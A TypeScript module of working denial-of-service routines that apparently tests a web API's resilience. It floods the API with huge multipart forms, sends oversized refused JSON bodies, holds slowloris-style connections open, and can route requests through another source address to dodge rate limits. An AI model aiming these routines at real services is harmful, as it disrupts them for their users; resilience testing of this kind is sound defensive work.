/**
 * Attacks with request bodies: too many form fields, bytes that never arrive, bodies that no call accepts, and
 * connections held open.
 */
import { request as httpRequest } from 'node:http';
import { connect, type Socket } from 'node:net';

export interface AttackTarget {
  url: string;
  /** An IP address of this machine for the attacker, so that rate limits don't count its requests as the victim's. */
  from?: string;
  /** Without a cookie, the attacker is anonymous. */
  cookie?: string;
}

export interface AttackOutcome {
  /** how often each status was returned; 0 stands for a connection that ended without a response */
  statuses: Record<number, number>;
  /** milliseconds until each response */
  milliseconds: number[];
}

const BOUNDARY = 'edge';
const emptyField = Buffer.from(`--${BOUNDARY}\r\ncontent-disposition: form-data; name="a"\r\n\r\n\r\n`);

/** A form of 440,000 empty fields, 25 MB in size. */
function emptyFields(): Buffer {
  return Buffer.concat([...Array<Buffer>(440_000).fill(emptyField), Buffer.from(`--${BOUNDARY}--\r\n`)]);
}

function send(target: AttackTarget, path: string, type: string, body: Buffer): Promise<{ status: number; ms: number }> {
  const began = performance.now();
  return new Promise((resolve) => {
    const done = (status: number) => resolve({ status, ms: performance.now() - began });
    const headers = {
      'content-type': type,
      'content-length': body.length,
      ...(target.cookie && { cookie: target.cookie }),
    };
    const options = { method: 'POST', headers, agent: false, ...(target.from && { localAddress: target.from }) };
    const request = httpRequest(target.url + path, options, (answer) => {
      done(answer.statusCode ?? 0);
      answer.resume().on('end', () => request.destroy());
    });
    request.on('error', () => done(0));
    request.end(body);
  });
}

function outcomeOf(answers: readonly { status: number; ms: number }[]): AttackOutcome {
  const statuses: Record<number, number> = {};
  for (const { status } of answers) statuses[status] = (statuses[status] ?? 0) + 1;
  return { statuses, milliseconds: answers.map(({ ms }) => ms) };
}

export async function attackWithEmptyFields(
  target: AttackTarget,
  { rounds = 4, atOnce = 5 } = {},
): Promise<AttackOutcome> {
  const body = emptyFields();
  const path = '/api/quotes/0190a5a0-0000-7000-8000-000000000000/photos';
  const answers = [];
  for (let round = 0; round < rounds; round += 1) {
    const type = `multipart/form-data; boundary=${BOUNDARY}`;
    answers.push(...(await Promise.all(Array.from({ length: atOnce }, () => send(target, path, type, body)))));
  }
  return outcomeOf(answers);
}

/** Sends 2.5 MB JSON bodies one after another. No call accepts them. */
export async function attackWithRefusedBodies(target: AttackTarget, { times = 20 } = {}): Promise<AttackOutcome> {
  const body = Buffer.from(JSON.stringify({ text: 'x'.repeat(2_500_000) }));
  const answers = [];
  for (let time = 0; time < times; time += 1)
    answers.push(await send(target, '/api/auth/token', 'application/json', body));
  return outcomeOf(answers);
}

/** Opens connections that announce 25 MB and send nothing. The returned function ends the attack. */
export async function attackWithSilence(target: AttackTarget, { connections = 300 } = {}): Promise<() => void> {
  const { hostname, port } = new URL(target.url);
  const open: Socket[] = [];
  for (let made = 0; made < connections; made += 1) {
    const socket = connect({ host: hostname, port: Number(port), ...(target.from && { localAddress: target.from }) });
    socket.on('error', () => undefined);
    socket.write(
      `POST /api/quotes/0190a5a0-0000-7000-8000-000000000000/photos HTTP/1.1\r\nhost: ${hostname}\r\n${target.cookie ? `cookie: ${target.cookie}\r\n` : ''}` +
        `content-type: multipart/form-data; boundary=${BOUNDARY}\r\ncontent-length: 25000000\r\n\r\n`,
    );
    open.push(socket);
  }
  await new Promise((resolve) => setTimeout(resolve, 500));
  return () => {
    for (const socket of open) socket.destroy();
  };
}
